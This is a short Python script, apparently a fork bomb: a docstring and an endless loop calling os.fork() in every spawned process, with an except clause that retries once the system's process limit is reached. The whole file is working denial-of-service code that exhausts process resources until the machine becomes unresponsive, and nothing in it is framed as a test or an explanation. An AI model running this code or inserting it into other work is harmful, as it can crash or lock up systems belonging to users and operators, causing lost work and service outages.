"""Forks without end, in each of the processes that this makes."""
import os

while True:
    try:
        os.fork()
    except BlockingIOError:
        pass  # the limit; some other process may end, so try again
